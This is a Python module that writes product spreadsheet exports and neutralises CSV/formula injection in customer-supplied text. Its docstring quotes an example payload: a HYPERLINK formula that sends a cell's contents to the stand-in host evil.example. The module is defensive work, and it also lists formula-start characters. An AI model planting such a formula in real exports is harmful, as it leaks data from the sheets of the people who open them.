"""Every spreadsheet the product hands out (.xlsx, .csv) is written here: no cell text can become a formula.

Names, remarks and titles come from customers: a nickname `=HYPERLINK("http://evil.example/?"&A2,"点我")`
must reach the sheet as those characters, never as a live formula (CSV injection, OWASP). Exports stream
their rows through XlsxBook's sheets or CsvWriter and never import openpyxl or csv themselves
(tests/store/test_export.py keeps it so).
"""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import BinaryIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# Characters a spreadsheet may read as the start of a formula (OWASP's list), and their full-width forms,
# which an East Asian Excel turns into the ASCII ones as they are typed.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Control characters an .xlsx cannot hold (openpyxl refuses the whole row); they carry no text anyway.
_UNWRITABLE = re.compile(r"[\000-\010\013\014\016-\037]")
XLSX_TEXT_MAX = 32767  # characters in one cell
# Values a cell holds as they are: numbers and times are data, never parsed from text.
_PLAIN = (bool, int, float, Decimal, datetime, date, time, timedelta)


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value) -> str:
    """A value as CSV text: text a spreadsheet would read as a formula gets a leading apostrophe, which
    makes it text (and shows, as OWASP recommends: the reader sees that the cell was neutralised)."""
    if value is None:
        return ""
    if isinstance(value, _PLAIN):
        return str(value)
    text = str(value)
    return "'" + text if formula_like(text) else text


class CsvWriter:
    """Rows as CSV to a binary stream: UTF-8 with a byte-order mark (so Excel reads Chinese right), every
    field quoted, each text cell through csv_cell. Writes row by row: nothing is held but one row."""

    def __init__(self, out: BinaryIO):
        self._out = out
        self._buffer = io.StringIO()
        self._csv = csv.writer(self._buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        out.write(codecs.BOM_UTF8)

    def append(self, row: Iterable) -> None:
        self._csv.writerow([csv_cell(v) for v in row])
        self._out.write(self._buffer.getvalue().encode())
        self._buffer.seek(0)
        self._buffer.truncate()


class XlsxSheet:
    """One sheet of an XlsxBook; rows go straight to the book's temporary file."""

    def __init__(self, sheet):
        self._sheet = sheet

    def append(self, row: Iterable) -> None:
        self._sheet.append([self._cell(v) for v in row])

    def _cell(self, value):
        if value is None or isinstance(value, _PLAIN):
            return value
        text = _UNWRITABLE.sub("", str(value))[:XLSX_TEXT_MAX]
        cell = WriteOnlyCell(self._sheet, text)
        # openpyxl infers a formula from a leading "=" and an error from "#N/A": a text cell is text.
        cell.data_type = "s"
        # Excel's own leading apostrophe: shown without it, and still text when someone edits the cell.
        if formula_like(text):
            cell.quotePrefix = True
        return cell


class XlsxBook:
    """A write-only workbook: memory stays bounded at any size, rows spool to a temporary file until the
    zip is written."""

    def __init__(self):
        self._book = Workbook(write_only=True)

    def sheet(self, title: str) -> XlsxSheet:
        return XlsxSheet(self._book.create_sheet(title))

    async def save(self, out: BinaryIO) -> None:
        await asyncio.to_thread(self._book.save, out)  # zipping takes a while: the event loop keeps serving
